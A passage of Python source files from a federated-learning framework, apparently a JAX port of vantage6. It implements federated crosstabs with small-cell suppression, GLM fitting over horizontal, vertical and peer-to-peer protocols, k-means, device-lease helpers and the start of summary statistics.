    raw_rows = np.asarray(df[row_var])
    raw_cols = np.asarray(df[col_var])
    present = _present_mask(raw_rows) & _present_mask(raw_cols)
    rows = raw_rows[present].astype(str)
    cols = raw_cols[present].astype(str)
    row_labels, row_idx = np.unique(rows, return_inverse=True)
    col_labels, col_idx = np.unique(cols, return_inverse=True)
    counts = np.zeros((len(row_labels), len(col_labels)), np.int64)
    np.add.at(counts, (row_idx, col_idx), 1)
    if min_cell > 0:
        small = (counts > 0) & (counts < min_cell)
        counts[small] = SUPPRESSED
    return {
        "row_var": row_var, "col_var": col_var,
        "row_labels": [str(x) for x in row_labels],
        "col_labels": [str(x) for x in col_labels],
        "counts": counts,
    }


def combine_crosstabs(partials: Sequence[dict]) -> dict:
    """Sum partial tables over the union of labels.

    A ``SUPPRESSED`` cell in any partial makes the combined cell a
    lower bound: its known mass is summed and ``lower_bound`` is set
    for that cell (True in the boolean mask).
    """
    if not partials:
        raise ValueError("no partial tables to combine")
    row_labels = sorted({l for p in partials for l in p["row_labels"]})
    col_labels = sorted({l for p in partials for l in p["col_labels"]})
    r_pos = {l: i for i, l in enumerate(row_labels)}
    c_pos = {l: i for i, l in enumerate(col_labels)}
    total = np.zeros((len(row_labels), len(col_labels)), np.int64)
    lower = np.zeros_like(total, dtype=bool)
    for p in partials:
        counts = np.asarray(p["counts"], np.int64)
        ri = [r_pos[l] for l in p["row_labels"]]
        ci = [c_pos[l] for l in p["col_labels"]]
        sup = counts == SUPPRESSED
        add = np.where(sup, 0, counts)
        total[np.ix_(ri, ci)] += add
        lower[np.ix_(ri, ci)] |= sup
    return {
        "row_var": partials[0]["row_var"],
        "col_var": partials[0]["col_var"],
        "row_labels": row_labels,
        "col_labels": col_labels,
        "counts": total,
        "lower_bound": lower,
        "n": int(total.sum()),
    }


@algorithm_client
def central_crosstab(client, row_var: str, col_var: str,
                     min_cell: int = 0,
                     organizations: Sequence[int] | None = None) -> dict:
    """Central: fan out partial_crosstab, combine over the label union."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input(
            "partial_crosstab",
            kwargs={"row_var": row_var, "col_var": col_var,
                    "min_cell": min_cell},
        ),
        organizations=orgs,
        name="partial_crosstab",
    )
    results = client.wait_for_results(task["id"])
    # a crashed worker yields None in the results list — name it rather
    # than letting combine die on a subscript; unlike glm (which drops
    # failed partials and fits on the rest), a count table must be
    # complete or explicitly refused: a silently partial table reads
    # as an exact answer
    failed = [orgs[i] for i, r in enumerate(results) if not r]
    if failed:
        raise RuntimeError(
            f"partial_crosstab failed on organization(s) {failed}; "
            f"inspect those runs' logs — refusing to combine a partial "
            f"federation silently"
        )
    return combine_crosstabs(results)
