"""jax model zoo — the algorithms the federation runs.

No direct reference counterpart in the infra monorepo: vantage6 algorithms
live in separate repos (e.g. averaging/GLM algorithm images, SURVEY.md
§2.2). Each module here is a *federated algorithm package*: worker
functions (``partial_*``) run at nodes on their local partition, central
functions drive rounds via the AlgorithmClient and aggregate with
``vantage6_trn.ops``. All local compute is jax, jit-compiled once by the
persistent node runtime (XLA → neuronx-cc on trn2).
"""
