"""jax model zoo — the algorithms the federation runs.

No direct reference counterpart in the infra monorepo: vantage6 algorithms
live in separate repos (e.g. averaging/GLM algorithm images, SURVEY.md
§2.2). Each module here is a *federated algorithm package*: worker
functions (``partial_*``) run at nodes on their local partition, central
functions drive rounds via the AlgorithmClient and aggregate with
``vantage6_trn.ops``. All local compute is jax, jit-compiled once by the
persistent node runtime (XLA → neuronx-cc on trn2).
"""

from __future__ import annotations

import contextlib
import contextvars
import secrets
import threading

# Per-run preferred device (set by the node runtime's worker thread):
# lets N workers sharing one chip each run on their own NeuronCore
# concurrently instead of serializing 8-core shard_maps. None → use the
# full device set (single-tenant default).
_preferred_device: contextvars.ContextVar[int | None] = \
    contextvars.ContextVar("v6trn_preferred_device", default=None)


def preferred_device_index() -> int | None:
    return _preferred_device.get()


def set_preferred_device(index: int | None) -> None:
    _preferred_device.set(index)


# Per-run core lease (set by the node runtime's worker thread, like
# _preferred_device): the scheduler's grant for this run. Device-
# selection helpers below honor it; None → full device set (driver-side
# calls, tests, CLI).
_active_lease: contextvars.ContextVar = \
    contextvars.ContextVar("v6trn_lease", default=None)


def set_active_lease(lease) -> None:
    """Install this run's core lease (``None`` clears). The lease
    contract (``node.scheduler.Lease``): ``granted_cores() ->
    tuple[int, ...]`` and ``exclusive_window()`` (a context manager
    granting whole-pool collective execution)."""
    _active_lease.set(lease)


def current_lease():
    return _active_lease.get()


def devices_for_cores(cores) -> list:
    """Map scheduler core indices to jax devices — the single
    sanctioned crossing from lease-space to device-space."""
    import jax

    devs = list(jax.devices())
    return [devs[c % len(devs)] for c in cores]  # noqa: V6L019 - sanctioned adapter: core indices come from a scheduler grant (or the legacy static pin); every mesh builder routes through here


def leased_devices(n: int | None = None) -> list:
    """The devices this run may touch: the active lease's granted set,
    or the full visible set when no lease is installed (driver-side
    calls, tests, CLI). ``n`` slices the first n and raises when the
    lease grants fewer — a mesh must never span cores the scheduler
    handed to another tenant."""
    import jax

    lease = _active_lease.get()
    cores = lease.granted_cores() if lease is not None else ()
    if cores:
        devs = devices_for_cores(cores)
    else:
        devs = list(jax.devices())
    if n:
        if n > len(devs):
            raise RuntimeError(
                f"mesh wants {n} devices but the lease grants "
                f"{len(devs)}; declare the requirement (resources/"
                f"n_devices) so the scheduler grants a window")
        devs = devs[:n]  # noqa: V6L019 - sanctioned adapter: the slice is bounded by the lease's granted set above; lease-less callers get the legacy full-set behavior
    return devs


def placement_cores(n: int, start: int = 0) -> tuple[int, ...]:
    """Core indices an ``n``-device mesh should build on: the first n
    of the lease's grant, or — lease-less — a rotation starting at
    ``start`` (the legacy pinned-node layout, so co-hosted tenants
    spread instead of stacking on core 0)."""
    import jax

    lease = _active_lease.get()
    cores = lease.granted_cores() if lease is not None else ()
    if cores:
        if n > len(cores):
            raise RuntimeError(
                f"mesh wants {n} cores but the lease grants "
                f"{len(cores)}; declare the requirement (resources/"
                f"data_parallel) so the scheduler grants a window")
        return tuple(cores[:n])
    ndev = max(1, len(jax.devices()))
    return tuple((start + i) % ndev for i in range(min(n, ndev)))


# Collective programs (shard_map/pmean over a multi-device mesh) need
# every per-device executor running simultaneously; two threads each
# launching an 8-device program can split the XLA CPU executor pool and
# deadlock inside the collective. Leased runs acquire a per-granted-set
# exclusive window from their scheduler (overlapping windows serialize,
# disjoint ones run concurrently); lease-less callers (driver side,
# tests, orchestration runs) fall back to this process-wide slot.
_multi_device_slot = threading.Lock()


@contextlib.contextmanager
def mesh_execution_slot(n_devices: int):
    """Exclusive execution for multi-device mesh launches: a thin
    adapter over the scheduler's window acquisition, with the PR 4
    process-global lock as the lease-less fallback."""
    if n_devices <= 1:
        yield
        return
    lease = _active_lease.get()
    if lease is not None and lease.granted_cores():
        with lease.exclusive_window():
            yield
        return
    with _multi_device_slot:
        yield


# Per-run result layer sink (set by the node runtime's worker thread,
# like _preferred_device): when present, ``stream_layers`` hands each
# weight leaf to the sink as it leaves the device, so the result upload
# overlaps the remaining D2H work instead of waiting for the full tree.
# None → plain batched device_get (driver-side calls, tests, CLI).
_layer_sink: contextvars.ContextVar = \
    contextvars.ContextVar("v6trn_layer_sink", default=None)


def set_layer_sink(sink) -> None:
    """Install a per-run layer sink (``None`` clears). The sink
    contract (``node.daemon._ResultLayerSink``):

    * ``begin(spec_tree, scalars) -> bool`` — full result layout
      (``FrameSpec`` leaves + the scalar header fields); False refuses
      the stream and the worker falls back to batched ``device_get``;
    * ``push(arr)`` — one host layer, in ``begin``'s leaf order;
    * ``close(err)`` — stream complete (``err=None``) or poisoned.
    """
    _layer_sink.set(sink)


def layer_stream_active() -> bool:
    """True when a sink is installed — workers skip uplink framings
    that change frame lengths (delta hints) while streaming: the blob
    layout is sealed at ``begin`` time."""
    return _layer_sink.get() is not None


def stream_layers(tree, scalars: dict | None = None):
    """Pytree of device arrays → pytree of host arrays, streaming each
    leaf to the installed layer sink as it is pulled.

    Leaves are visited in ``encode_binary``'s traversal order (dict
    insertion order, list order), so the sink can lay the V6BN blob
    out up front (``serialization.encode_binary_prefix``) and append
    frame bytes as they arrive. ``scalars`` are the non-array fields
    of the worker result (``n``, ``loss``) — known before the first
    leaf moves, they ride in the sealed header. With no sink (or the
    sink refusing) this is exactly ``jax.device_get(tree)``. A sink
    failure mid-stream degrades silently for the caller: the sink is
    closed poisoned (the daemon falls back to the batch upload) and
    the remaining leaves still come back as host arrays.
    """
    import logging

    import jax
    import numpy as np

    from vantage6_trn.common.serialization import FrameSpec

    log = logging.getLogger(__name__)
    sink = _layer_sink.get()
    if sink is None:
        return jax.device_get(tree)

    def walk(obj, fn):
        if isinstance(obj, dict):
            return {k: walk(v, fn) for k, v in obj.items()}
        if isinstance(obj, (list, tuple)):
            return [walk(v, fn) for v in obj]
        return fn(obj)

    def spec_of(leaf):
        dtype = getattr(leaf, "dtype", None) or np.asarray(leaf).dtype
        return FrameSpec(dtype, getattr(leaf, "shape", np.shape(leaf)))

    try:
        accepted = sink.begin(walk(tree, spec_of), dict(scalars or {}))
    except Exception:  # noqa: BLE001 — a broken sink must never fail the training result
        log.warning("layer sink failed at begin; batched device_get",
                    exc_info=True)
        accepted = False
        try:
            sink.close(err="begin failed")
        except Exception:  # noqa: V6L002 - best-effort poison of an already-broken sink; the begin failure above was logged and the batch fallback carries the result
            pass
    if not accepted:
        return jax.device_get(tree)
    dead = False

    def pull(leaf):
        nonlocal dead
        host = jax.device_get(leaf)
        if not dead:
            try:
                sink.push(host)
            except Exception:  # noqa: BLE001 — poison the sink, keep the result path alive
                dead = True
                log.warning("layer sink push failed; batch upload "
                            "fallback", exc_info=True)
        return host

    out = walk(tree, pull)
    try:
        sink.close(err="push failed" if dead else None)
    except Exception:  # noqa: V6L002 - close failure only forfeits the streamed upload; the sink counts it and the host tree below still reaches the batch path
        pass
    return out


def local_noise_key():
    """PRNG key for privacy-critical noise, drawn from local OS entropy.

    DP guarantees require that no other party can regenerate the noise a
    worker adds. A seed received in a task input is public to every org
    (and the coordinator), so noise keyed on it can be subtracted exactly
    — keying on ``secrets`` makes the draw unpredictable and distinct per
    org per invocation. Deterministic seeds remain fine for
    non-privacy-critical init (weights, data shuffles).
    """
    import jax

    return jax.random.PRNGKey(secrets.randbits(63))
