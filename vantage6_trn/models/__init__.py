"""jax model zoo — the algorithms the federation runs.

No direct reference counterpart in the infra monorepo: vantage6 algorithms
live in separate repos (e.g. averaging/GLM algorithm images, SURVEY.md
§2.2). Each module here is a *federated algorithm package*: worker
functions (``partial_*``) run at nodes on their local partition, central
functions drive rounds via the AlgorithmClient and aggregate with
``vantage6_trn.ops``. All local compute is jax, jit-compiled once by the
persistent node runtime (XLA → neuronx-cc on trn2).
"""

from __future__ import annotations

import contextlib
import contextvars
import secrets
import threading

# Per-run preferred device (set by the node runtime's worker thread):
# lets N workers sharing one chip each run on their own NeuronCore
# concurrently instead of serializing 8-core shard_maps. None → use the
# full device set (single-tenant default).
_preferred_device: contextvars.ContextVar[int | None] = \
    contextvars.ContextVar("v6trn_preferred_device", default=None)


def preferred_device_index() -> int | None:
    return _preferred_device.get()


def set_preferred_device(index: int | None) -> None:
    _preferred_device.set(index)


# Collective programs (shard_map/pmean over a multi-device mesh) need
# every per-device executor running simultaneously; two threads each
# launching an 8-device program can split the XLA CPU executor pool and
# deadlock inside the collective. Unpinned co-hosted workers therefore
# take this process-wide slot for multi-device launches; pinned workers
# (1-device mesh, no collectives) stay fully concurrent.
_multi_device_slot = threading.Lock()


@contextlib.contextmanager
def mesh_execution_slot(n_devices: int):
    """Serialize multi-device mesh executions within this process."""
    if n_devices <= 1:
        yield
        return
    with _multi_device_slot:
        yield


def local_noise_key():
    """PRNG key for privacy-critical noise, drawn from local OS entropy.

    DP guarantees require that no other party can regenerate the noise a
    worker adds. A seed received in a task input is public to every org
    (and the coordinator), so noise keyed on it can be subtracted exactly
    — keying on ``secrets`` makes the draw unpredictable and distinct per
    org per invocation. Deterministic seeds remain fine for
    non-privacy-critical init (weights, data shuffles).
    """
    import jax

    return jax.random.PRNGKey(secrets.randbits(63))
