"""Federated GLM (BASELINE config #4, first half).

Two protocols, mirroring the reference algorithm ecosystem's GLM family:

* **Horizontal** (rows split across orgs) — federated IRLS: workers emit
  the sufficient statistics ``XᵀWX`` and ``XᵀWz`` of their partition for
  the current β; the central function solves the aggregated normal
  equations each iteration. Exact: equals pooled IRLS.
* **Vertical** (features split across orgs, shared row order) —
  block-coordinate IRLS: each org holds β_k for its feature block,
  exchanges only the partial linear predictor ``η_k = X_k β_k`` (never
  raw features) via the coordinator. This is the multiparty pattern the
  reference runs over its VPN channel (SURVEY.md §2.2 'vertical FL').

Families: gaussian (identity), binomial (logit), poisson (log). Worker
math is jax (jit on first use in the persistent runtime).
"""

from __future__ import annotations

import functools
import logging
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data, metadata
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input

log = logging.getLogger(__name__)

FAMILIES = ("gaussian", "binomial", "poisson")


def _check_family(family: str) -> str:
    if family not in FAMILIES:
        raise ValueError(f"unknown family {family!r}; pick from {FAMILIES}")
    return family


@functools.partial(jax.jit, static_argnames=("family",))
def _irls_stats(x, y, beta, family: str):
    """One partition's (XᵀWX, XᵀWz, deviance-ish, n) at current beta."""
    eta = x @ beta
    if family == "gaussian":
        mu, w = eta, jnp.ones_like(eta)
        z = y
    elif family == "binomial":
        mu = jax.nn.sigmoid(eta)
        w = jnp.clip(mu * (1 - mu), 1e-6)
        z = eta + (y - mu) / w
    else:  # poisson
        mu = jnp.exp(jnp.clip(eta, -30, 30))
        w = jnp.clip(mu, 1e-6)
        z = eta + (y - mu) / w
    xtwx = (x * w[:, None]).T @ x
    xtwz = (x * w[:, None]).T @ z
    ll = -0.5 * jnp.sum(w * (z - eta) ** 2)  # working log-lik proxy
    return xtwx, xtwz, ll


def _design(df: Table, features: Sequence[str], intercept: bool):
    x = df.to_matrix(features, dtype=np.float32)
    if intercept:
        x = np.concatenate([np.ones((len(x), 1), np.float32), x], axis=1)
    return x


# ====================== horizontal protocol ======================

@data(1)
def partial_glm_stats(df: Table, beta: Sequence[float],
                      features: Sequence[str], label: str,
                      family: str = "gaussian",
                      intercept: bool = True) -> dict:
    _check_family(family)
    x = _design(df, features, intercept)
    y = np.asarray(df[label], np.float32)
    xtwx, xtwz, ll = _irls_stats(
        jnp.asarray(x), jnp.asarray(y), jnp.asarray(beta, jnp.float32), family
    )
    return {"xtwx": np.asarray(xtwx), "xtwz": np.asarray(xtwz),
            "ll": float(ll), "n": int(len(y))}


@algorithm_client
def fit(client, features: Sequence[str], label: str,
        family: str = "gaussian", intercept: bool = True,
        max_iter: int = 25, tol: float = 1e-6,
        organizations: Sequence[int] | None = None) -> dict:
    """Central horizontal GLM: aggregate IRLS to convergence."""
    _check_family(family)
    orgs = organizations or [o["id"] for o in client.organization.list()]
    p = len(features) + (1 if intercept else 0)
    beta = np.zeros(p, np.float32)
    converged, it = False, 0
    for it in range(1, max_iter + 1):
        task = client.task.create(
            input_=make_task_input(
                "partial_glm_stats",
                kwargs={"beta": beta, "features": list(features),
                        "label": label, "family": family,
                        "intercept": intercept},
            ),
            organizations=orgs, name="glm-irls",
        )
        partials = [r for r in client.wait_for_results(task["id"]) if r]
        xtwx = np.sum([p_["xtwx"] for p_ in partials], axis=0)
        xtwz = np.sum([p_["xtwz"] for p_ in partials], axis=0)
        new_beta = np.linalg.solve(
            xtwx + 1e-8 * np.eye(p, dtype=np.float32), xtwz
        ).astype(np.float32)
        delta = float(np.max(np.abs(new_beta - beta)))
        beta = new_beta
        if delta < tol:
            converged = True
            break
    names = (["(intercept)"] if intercept else []) + list(features)
    return {"coefficients": dict(zip(names, beta.tolist())),
            "beta": beta, "iterations": it, "converged": converged,
            "family": family,
            "n": sum(p_["n"] for p_ in partials)}


# ====================== vertical protocol ======================

@data(1)
def partial_eta(df: Table, beta_k: Sequence[float] | None,
                features: Sequence[str]) -> dict:
    """Vertical worker: η_k = X_k β_k over this org's feature block."""
    x = df.to_matrix(features, dtype=np.float32)
    if beta_k is None:
        beta_k = np.zeros(x.shape[1], np.float32)
    return {"eta": x @ np.asarray(beta_k, np.float32), "n": int(len(x))}


@data(1)
def partial_block_update(df: Table, beta_k: Sequence[float],
                         features: Sequence[str],
                         eta_other: np.ndarray, y: np.ndarray,
                         family: str = "binomial",
                         ridge: float = 1e-6) -> dict:
    """Vertical worker: IRLS update of this org's block given the other
    orgs' combined partial predictor (raw features stay local)."""
    _check_family(family)
    x = df.to_matrix(features, dtype=np.float32)
    beta_k = np.asarray(beta_k, np.float32)
    eta = x @ beta_k + np.asarray(eta_other, np.float32)
    y = np.asarray(y, np.float32)
    if family == "gaussian":
        mu, w = eta, np.ones_like(eta)
    elif family == "binomial":
        mu = 1 / (1 + np.exp(-eta))
        w = np.clip(mu * (1 - mu), 1e-6, None)
    else:
        mu = np.exp(np.clip(eta, -30, 30))
        w = np.clip(mu, 1e-6, None)
    # working response restricted to this block
    z_k = x @ beta_k + (y - mu) / w
    xtwx = (x * w[:, None]).T @ x
    new_beta = np.linalg.solve(
        xtwx + ridge * np.eye(x.shape[1], dtype=np.float32),
        (x * w[:, None]).T @ z_k,
    ).astype(np.float32)
    return {"beta": new_beta, "eta": x @ new_beta}


@algorithm_client
def vertical_fit(client, feature_blocks: dict, label_org: int,
                 label: str, family: str = "binomial",
                 max_iter: int = 20, tol: float = 1e-5) -> dict:
    """Central vertical GLM coordinator.

    ``feature_blocks``: {org_id: [feature names held at that org]}.
    The label column lives at ``label_org`` (fetched once as a task —
    in a hardened deployment the label would stay local too; round-1
    scope keeps the coordinator trusted with labels only).
    """
    _check_family(family)
    org_ids = [int(k) for k in feature_blocks]
    # fetch label vector from the label org
    t = client.task.create(
        input_=make_task_input("partial_column", kwargs={"column": label}),
        organizations=[label_org], name="glm-vertical-label",
    )
    (res,) = client.wait_for_results(t["id"])
    y = np.asarray(res["values"], np.float32)

    betas = {o: None for o in org_ids}
    etas = {}
    for o in org_ids:
        t = client.task.create(
            input_=make_task_input(
                "partial_eta",
                kwargs={"beta_k": None,
                        "features": list(feature_blocks[str(o)]
                                         if str(o) in feature_blocks
                                         else feature_blocks[o])},
            ),
            organizations=[o], name="glm-vertical-eta",
        )
        (r,) = client.wait_for_results(t["id"])
        etas[o] = np.asarray(r["eta"], np.float32)
        betas[o] = np.zeros(len(_block(feature_blocks, o)), np.float32)

    it, delta = 0, np.inf
    for it in range(1, max_iter + 1):
        delta = 0.0
        for o in org_ids:
            eta_other = np.sum(
                [etas[j] for j in org_ids if j != o], axis=0
            ) if len(org_ids) > 1 else np.zeros_like(y)
            t = client.task.create(
                input_=make_task_input(
                    "partial_block_update",
                    kwargs={"beta_k": betas[o],
                            "features": _block(feature_blocks, o),
                            "eta_other": eta_other, "y": y,
                            "family": family},
                ),
                organizations=[o], name="glm-vertical-update",
            )
            (r,) = client.wait_for_results(t["id"])
            new_beta = np.asarray(r["beta"], np.float32)
            delta = max(delta, float(np.max(np.abs(new_beta - betas[o]))))
            betas[o] = new_beta
            etas[o] = np.asarray(r["eta"], np.float32)
        if delta < tol:
            break
    return {
        "betas": {str(o): betas[o] for o in org_ids},
        "iterations": it,
        "converged": bool(delta < tol),
        "family": family,
    }


def _block(feature_blocks: dict, org_id) -> list:
    return list(
        feature_blocks[str(org_id)] if str(org_id) in feature_blocks
        else feature_blocks[org_id]
    )


@data(1)
def partial_column(df: Table, column: str) -> dict:
    """Worker: expose one column (label sharing for vertical protocols)."""
    return {"values": np.asarray(df[column], np.float32)}


# ============= vertical protocol, peer-to-peer variant =============
# Same block-coordinate IRLS as vertical_fit, but intermediate values
# (η_k, labels) travel org↔org over the peer channel (the reference's
# VPN algo-to-algo path) — the coordinator only assembles final βs.


@algorithm_client
@data(1)
@metadata
def partial_vertical_p2p(client, df: Table, meta, feature_blocks: dict,
                         org_order: Sequence[int], label_org: int,
                         label: str | None = None,
                         family: str = "binomial", sweeps: int = 10,
                         ridge: float = 1e-6) -> dict:
    """Worker: one party of the sequential block-coordinate protocol.

    Turn order = ``org_order``. On my turn I pull every peer's current
    η_k, update my block β_k, and publish the new η_k; off-turn I serve
    state and wait for the turn-holder's version to advance. The label
    vector is served only by ``label_org`` — it never transits the
    server or coordinator.
    """
    import threading
    import time as _time

    from vantage6_trn.algorithm.peer import (
        PeerCrypto,
        PeerServer,
        peer_call as _peer_call,
        wait_for_peers,
    )

    _check_family(family)
    me = meta.organization_id
    features = _block(feature_blocks, me)
    x = df.to_matrix(features, dtype=np.float32)
    beta = np.zeros(x.shape[1], np.float32)
    state = {"eta": x @ beta, "version": 0, "beta": beta}
    lock = threading.Lock()

    y_local = (np.asarray(df[label], np.float32)
               if me == label_org and label else None)

    def serve_state(_):
        with lock:
            return {"eta": state["eta"], "version": state["version"]}

    def serve_y(_):
        if y_local is None:
            raise RuntimeError("not the label org")
        return {"y": y_local}

    crypto = PeerCrypto(client, meta)
    peer = PeerServer(handlers={"state": serve_state, "y": serve_y},
                      crypto=crypto)
    peer.start()

    def peer_call(address, name, payload=None, timeout=60.0):
        return _peer_call(address, name, payload, timeout=timeout,
                          crypto=crypto)

    try:
        reg = client.vpn.register(peer.port, label="vglm",
                                  enc_key=crypto.enc_key)
        crypto.enabled = bool(reg.get("secured"))
        addrs = wait_for_peers(client, n_expected=len(org_order),
                               label="vglm", crypto=crypto)
        by_org = {a["organization_id"]: a for a in addrs}
        y = (y_local if y_local is not None
             else np.asarray(peer_call(by_org[label_org], "y")["y"],
                             np.float32))

        L = len(org_order)
        org_final = {
            org: (sweeps - 1) * L + idx + 1
            for idx, org in enumerate(org_order)
        }
        last_state: dict[int, dict] = {}

        def wait_version(org, target, timeout=120.0):
            """Wait until `org` publishes version >= target. A vanished
            peer only counts as done when `target` is that org's final-
            turn version (workers exit only after their last update) —
            mid-protocol unreachability keeps retrying instead of
            silently proceeding on stale state."""
            deadline = _time.time() + timeout
            conn_failures = 0
            while _time.time() < deadline:
                try:
                    st = peer_call(by_org[org], "state", timeout=10)
                    conn_failures = 0
                except Exception:
                    conn_failures += 1
                    if conn_failures >= 5 and target >= org_final[org]:
                        return {"version": target, "eta": None}
                    _time.sleep(0.1)
                    continue
                if st["version"] >= target:
                    last_state[org] = st
                    return st
                _time.sleep(0.05)
            raise TimeoutError(f"peer {org} stuck below version {target}")

        def pull_eta(org):
            """Peer's current η — cached from the barrier wait when
            available (it is post-update for that org's latest turn)."""
            st = last_state.get(org)
            if st is not None and st.get("eta") is not None:
                return np.asarray(st["eta"], np.float32)
            for attempt in range(3):
                try:
                    return np.asarray(
                        peer_call(by_org[org], "state", timeout=10)["eta"],
                        np.float32,
                    )
                except Exception:
                    if attempt == 2:
                        raise
                    _time.sleep(0.2)

        for sweep in range(sweeps):
            for turn, org in enumerate(org_order):
                target = sweep * len(org_order) + turn + 1
                if org == me:
                    others = [o for o in org_order if o != me]
                    eta_other = (np.sum(
                        [pull_eta(o) for o in others], axis=0)
                        if others else np.zeros_like(y))
                    upd = partial_block_update.__wrapped__(
                        df, state["beta"], features, eta_other, y,
                        family=family, ridge=ridge,
                    )
                    with lock:
                        state["beta"] = np.asarray(upd["beta"], np.float32)
                        state["eta"] = np.asarray(upd["eta"], np.float32)
                        state["version"] = target
                else:
                    wait_version(org, target)
        # hold the server until every peer finished its LAST turn — each
        # org's version tops out at its own final-turn target, not the
        # global count. A peer whose server is already gone has finished.
        for org in org_order:
            if org != me:
                try:
                    wait_version(org, org_final[org])
                except Exception as e:
                    # peer done and torn down — expected near the end
                    log.debug("final-turn wait on org %s: %s", org, e)
        return {"organization_id": me, "beta": state["beta"],
                "features": list(features)}
    finally:
        peer.stop()


@algorithm_client
def vertical_fit_p2p(client, feature_blocks: dict, label_org: int,
                     label: str, family: str = "binomial",
                     sweeps: int = 10) -> dict:
    """Central: launch one p2p worker per org; β blocks come back, the
    exchanged intermediates never touch the coordinator."""
    _check_family(family)
    org_order = [int(k) for k in feature_blocks]
    if int(label_org) not in org_order:
        raise ValueError(
            f"label_org {label_org} must hold a feature block too "
            f"(one of {org_order}) — label-only parties need the "
            "coordinator-mediated vertical_fit"
        )
    # one task → one peer group (ports are per-task); each worker picks
    # its feature block from the shared mapping by its own org id.
    task = client.task.create(
        input_=make_task_input(
            "partial_vertical_p2p",
            kwargs={"feature_blocks": {str(k): list(v)
                                       for k, v in feature_blocks.items()},
                    "org_order": org_order, "label_org": label_org,
                    "label": label, "family": family, "sweeps": sweeps},
        ),
        organizations=org_order, name="glm-vertical-p2p",
    )
    results = [r for r in client.wait_for_results(task["id"]) if r]
    if len(results) != len(org_order):
        raise RuntimeError("vertical_fit_p2p: a party failed")
    return {
        "betas": {str(r["organization_id"]): np.asarray(r["beta"])
                  for r in results},
        "family": family, "sweeps": sweeps,
    }
