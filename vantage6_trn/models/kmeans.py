"""Federated k-means (Lloyd's algorithm over federated moments).

Parity with the vantage6 ecosystem's k-means algorithm: workers assign
their local rows to the current centroids and emit per-centroid
(sum, count) — exact sufficient statistics, so the federated update
equals pooled Lloyd's. Assignment + accumulation is one jit'd jax
program (segment sums on NeuronCores).
"""

from __future__ import annotations

import functools
from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input


@functools.partial(jax.jit, static_argnames=("k",))
def _assign_stats(x, centroids, k: int):
    d2 = jnp.sum(
        (x[:, None, :] - centroids[None, :, :]) ** 2, axis=-1
    )
    assign = jnp.argmin(d2, axis=1)
    sums = jax.ops.segment_sum(x, assign, num_segments=k)
    counts = jax.ops.segment_sum(jnp.ones(x.shape[0]), assign,
                                 num_segments=k)
    inertia = jnp.sum(jnp.min(d2, axis=1))
    return sums, counts, inertia


@data(1)
def partial_kmeans_stats(df: Table, centroids, columns: Sequence[str]) -> dict:
    c = np.asarray(centroids, np.float32)
    x = jnp.asarray(df.to_matrix(columns, dtype=np.float32))
    sums, counts, inertia = _assign_stats(x, jnp.asarray(c), c.shape[0])
    return {"sums": np.asarray(sums), "counts": np.asarray(counts),
            "inertia": float(inertia), "n": int(x.shape[0])}


@data(1)
def partial_sample_rows(df: Table, columns: Sequence[str], n: int,
                        seed: int = 0) -> dict:
    """Worker: a few local rows for centroid seeding (k-means||-lite)."""
    x = df.to_matrix(columns, dtype=np.float32)
    rng = np.random.default_rng(seed)
    idx = rng.choice(len(x), size=min(n, len(x)), replace=False)
    return {"rows": x[idx]}


@algorithm_client
def fit(client, columns: Sequence[str], k: int = 3, max_iter: int = 50,
        tol: float = 1e-5, seed: int = 0,
        organizations: Sequence[int] | None = None) -> dict:
    """Central federated Lloyd's: exact equality with pooled k-means for
    the same initialization."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    # seed centroids from a small sample across orgs
    task = client.task.create(
        input_=make_task_input(
            "partial_sample_rows",
            kwargs={"columns": list(columns), "n": max(k, 8), "seed": seed},
        ),
        organizations=orgs, name="kmeans-seed",
    )
    samples = [r for r in client.wait_for_results(task["id"]) if r]
    pool = np.concatenate([np.asarray(s["rows"], np.float32)
                           for s in samples])
    rng = np.random.default_rng(seed)
    centroids = pool[rng.choice(len(pool), size=k, replace=False)]

    inertia, it = np.inf, 0
    for it in range(1, max_iter + 1):
        task = client.task.create(
            input_=make_task_input(
                "partial_kmeans_stats",
                kwargs={"centroids": centroids, "columns": list(columns)},
            ),
            organizations=orgs, name="kmeans-iter",
        )
        partials = [r for r in client.wait_for_results(task["id"]) if r]
        if len(partials) != len(orgs):
            raise RuntimeError("kmeans: an organization failed")
        sums = np.sum([p["sums"] for p in partials], axis=0)
        counts = np.sum([p["counts"] for p in partials], axis=0)
        new_inertia = float(sum(p["inertia"] for p in partials))
        nonempty = counts > 0
        new_centroids = centroids.copy()
        new_centroids[nonempty] = (
            sums[nonempty] / counts[nonempty, None]
        ).astype(np.float32)
        shift = float(np.max(np.linalg.norm(new_centroids - centroids,
                                            axis=1)))
        centroids = new_centroids
        if shift < tol:
            inertia = new_inertia
            break
        inertia = new_inertia
    return {
        "centroids": centroids,
        "inertia": inertia,
        "iterations": it,
        "cluster_sizes": counts.astype(int),
        "n": int(sum(p["n"] for p in partials)),
    }
