"""Federated summary statistics (BASELINE config #1).

Pattern mirror of the reference's simplest algorithms (e.g. federated
average — SURVEY.md §2.2 'data parallelism' row): workers emit partial
sufficient statistics over their local partition; the central function
combines them exactly (count/sum/sumsq compose additively; min/max by
min/max), so the federated answer equals the pooled answer.
"""

from __future__ import annotations

from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input


@jax.jit
def _partial_moments(x: jnp.ndarray):
    return {
        "count": jnp.full((x.shape[1],), x.shape[0], jnp.float32),
        "sum": jnp.sum(x, axis=0),
        "sumsq": jnp.sum(x * x, axis=0),
        "min": jnp.min(x, axis=0),
        "max": jnp.max(x, axis=0),
    }


@data(1)
def partial_stats(df: Table, columns: Sequence[str] | None = None) -> dict:
    """Worker: sufficient statistics of the local partition."""
    cols = list(columns) if columns else [
        c for c in df.columns if np.issubdtype(df[c].dtype, np.number)
    ]
    x = jnp.asarray(df.to_matrix(cols, dtype=np.float32))
    out = {k: np.asarray(v) for k, v in _partial_moments(x).items()}
    out["columns"] = cols
    return out


@algorithm_client
def central_stats(client, columns: Sequence[str] | None = None,
                  organizations: Sequence[int] | None = None) -> dict:
